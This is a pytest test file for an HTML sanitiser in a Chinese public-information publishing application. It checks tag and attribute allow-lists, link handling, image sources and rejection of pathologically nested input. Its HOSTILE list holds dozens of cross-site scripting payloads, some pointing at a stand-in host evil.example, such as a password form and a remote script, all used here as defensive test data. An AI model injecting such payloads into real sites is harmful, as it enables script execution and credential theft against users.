"""What HTML may go out: nothing that runs, loads or points elsewhere unasked."""

from __future__ import annotations

import re

import pytest
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from gongkai.publishing.cleaning import bare_text, clean_html
from gongkai.publishing.models import Item
from gongkai.publishing.nesting import is_overgrown
from gongkai.publishing.refusals import ItemIncomplete
from gongkai.publishing.selectors import body_of

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>提交</button></form>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=location name=cookie class=modal>x</p>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p>x\x00<scr\x00ipt>alert(1)</script>",
    "<table background='javascript:alert(1)'><td background=x>x</td></table>",
    "<xss contenteditable autofocus onfocus=alert(1)>x</xss>",
    "<body onload=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<a href='//evil.example' target=_blank ping='https://evil.example'>x</a>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s>/]*)([^>]*)>")
ALLOWED = {
    *("h2", "h3", "h4", "h5", "p", "div", "blockquote", "pre", "hr", "br", "ul", "ol", "li"),
    *("dl", "dt", "dd", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("a", "strong", "b", "em", "i", "u", "s", "sub", "sup", "span"),
}
ATTRIBUTES = {"href", "title", "rel", "colspan", "rowspan", "scope", "start"}
SCHEME = re.compile(r'href="([^":/?#]*):', re.IGNORECASE)


def assert_harmless(html):
    for tag, rest in TAG.findall(html):
        assert tag.lower() in ALLOWED, html
        names = re.findall(r'([\w-]+)\s*=\s*"[^"]*"', rest)
        assert {name.lower() for name in names} <= ATTRIBUTES, html
        assert not re.sub(r'[\w-]+\s*=\s*"[^"]*"', "", rest).strip(" /"), html
        if tag.lower() == "a" and "href" in names:
            assert 'rel="noopener noreferrer"' in rest
    assert {scheme.lower() for scheme in SCHEME.findall(html)} <= {
        "http",
        "https",
        "mailto",
        "tel",
    }


@pytest.mark.parametrize("written", HOSTILE)
def test_a_hostile_text_is_disarmed(written):
    assert_harmless(clean_html(f"<p>前</p>{written}<p>后</p>"))


@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<td", '"', ">", "甲"])))
def test_whatever_is_put_together_is_disarmed_and_stays_as_it_is(parts):
    once = clean_html("".join(parts))
    assert_harmless(once)
    assert clean_html(once) == once


def test_what_an_item_needs_stays():
    written = (
        "<h2>一、依据</h2><p><strong>根据</strong>《条例》<br>第二十条</p>"
        '<table><caption>表</caption><thead><tr><th scope="col">项</th></tr></thead>'
        '<tbody><tr><td colspan="2" rowspan="3">1</td></tr></tbody></table>'
        '<ol start="3"><li>三</li></ol><ul><li>点</li></ul><blockquote>引</blockquote>'
    )
    assert clean_html(written) == written


def test_a_link_tells_the_other_side_nothing():
    assert clean_html('<a href="https://www.gov.cn/">中国政府网</a>') == (
        '<a href="https://www.gov.cn/" rel="noopener noreferrer">中国政府网</a>'
    )


def test_a_body_is_cleaned_when_it_is_stored(draft):
    assert draft(body="<p onclick=x>甲<script>乙</script></p>").body == "<p>甲</p>"


def test_a_body_changed_behind_the_applications_back_is_cleaned_when_it_is_shown(draft):
    item = draft()
    Item.objects.update(body="<p>甲</p><script>alert(1)</script>")
    item.refresh_from_db()
    shown = body_of(item)
    assert shown == "<p>甲</p>"
    assert isinstance(shown, SafeString)


def test_the_bare_text_keeps_words_whole_and_cells_apart():
    html = (
        "<h2>甲 &amp; 乙</h2><p>138<b>0013</b>8000</p><table><tr><td>1</td><td>2</td></tr></table>"
    )
    assert bare_text(html) == "甲 & 乙\n13800138000\n1\n2"


def test_nothing_but_blanks_is_no_text():
    assert bare_text(clean_html("<p>&nbsp; <br></p><script>x</script>")) == ""


OWN = "f/12345678-1234-1234-1234-123456789abc/"


def test_a_picture_of_the_items_own_stays():
    picture = f'<img src="{OWN}" alt="大门">'
    assert clean_html(picture) == picture
    assert clean_html(picture, base="/o/a/i/1/") == f'<img src="/o/a/i/1/{OWN}" alt="大门">'


@pytest.mark.parametrize(
    "source",
    [
        "https://example.com/a.png",
        "//example.com/a.png",
        "data:image/png;base64,AA==",
        "file:///C:/a.png",
        "/files/abc/",
        f"../2/{OWN}",
        f"{OWN}?x",
        "f/12345678/",
        "",
    ],
)
def test_a_picture_from_elsewhere_goes(source):
    assert clean_html(f'<p>甲<img src="{source}" alt="&quot;>乙">丙</p>') == "<p>甲丙</p>"
    assert clean_html('<p><img alt="<img src=x onerror=y>">丁</p>') == "<p>丁</p>"


def test_a_figure_stays_with_its_words():
    figure = f'<figure><img src="{OWN}" alt="图"><figcaption>图一</figcaption></figure>'
    assert clean_html(figure) == figure
    assert bare_text(figure) == "图一"


@pytest.mark.parametrize("attribute", ["style='x:y'", "class=a", "onerror=x", "srcset=y"])
def test_a_picture_has_no_other_attributes(attribute):
    assert clean_html(f'<img {attribute} src="{OWN}">') == f'<img src="{OWN}">'


@pytest.mark.parametrize(
    "link",
    [
        '<a href="java&#1;script:alert(1)">x</a>',
        '<a href="java\x01script:alert(1)">x</a>',
        '<a href="java&#x202e;script&#8203;:alert(1)">x</a>',
    ],
)
def test_what_nobody_sees_hides_no_address_that_runs(link):
    assert_harmless(clean_html(link))


def test_what_nobody_sees_is_not_kept_in_whatever_way_it_was_written():
    assert clean_html("<p>甲\u202e乙&#x202e;丙&#8;丁\ufeff</p>") == "<p>甲乙丙丁</p>"


@pytest.mark.parametrize(
    "typed",
    [
        "<ul><li>" * 18_000,
        "<div>" * 201,
        "<div></span>" * 201,
        "<div><b></div>" * 201,
        "<p>" + "<b a=1>" * 199 + "</p>" + "<p>x" * 3000,
        f"<p {' '.join(f'a{n}' for n in range(600))}>",
    ],
)
def test_what_is_nested_as_no_person_writes_is_seen(typed):
    assert is_overgrown(typed)


@pytest.mark.parametrize(
    "typed",
    [
        "<table>" + "<tr><td>1<td>2" * 9000 + "</table>",
        "<p>甲<br>" * 9000,
        "<div><p><font size=2><b>甲</font></b></p></div>" * 9000,
        "<div>" * 150 + "甲" + "</div>" * 150,
    ],
)
def test_what_is_only_long_or_untidy_is_taken(typed):
    assert not is_overgrown(typed)


def test_what_would_cost_too_much_is_refused_before_it_is_cleaned(draft, monkeypatch):
    monkeypatch.setattr("gongkai.publishing.services.checking.clean_html", None)
    for typed, said in (("甲" * 4_000_001, "改为附件"), ("<div>" * 201, "清除格式后重新粘贴")):
        with pytest.raises(ItemIncomplete, match=said):
            draft(body=typed)
